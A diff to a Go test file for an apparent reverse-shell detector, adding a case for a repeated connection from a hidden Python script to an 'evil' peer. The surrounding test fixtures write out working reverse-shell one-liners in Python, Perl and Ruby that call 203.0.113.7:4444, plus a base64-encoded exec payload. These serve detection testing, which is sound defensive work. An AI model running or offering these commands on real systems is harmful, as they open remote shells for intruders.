@@ -106,6 +106,13 @@ func stories() map[string]*detecttest.Story {
 	code("python-pty", `/usr/bin/python3.11=python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, spawns)
 	code("python-file", "/usr/bin/python3.11=python3 /tmp/.update.py", spawns)
 	code("python-encoded", `/usr/bin/python3.11=python3 -c 'exec(__import__("base64").b64decode("aW1wb3J0IHNvY2tldA=="))'`, spawns)
+	// The second time the sensor does not tell of the connection: it told of this program and peer.
+	code("python-again", "/usr/bin/python3.11=python3 /tmp/.update.py", func(s *detecttest.Story, p *bollwerk.Process) {
+		s.Connect(p, evil)
+		s.Exit(p)
+		s.Wait(2 * time.Minute)
+		s.Exec(s.Exec(p.Parent, "/usr/bin/python3.11=python3 /tmp/.update.py"), "/usr/bin/dash=/bin/sh", detecttest.Term)
+	})
 	code("python-module", "/usr/bin/python3.11=python3 /app/plugins/tasks.py", spawns)
 	code("perl", `/usr/bin/perl -e 'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, becomes)
 	code("ruby", `/usr/bin/ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.7",4444))'`, func(s *detecttest.Story, p *bollwerk.Process) {
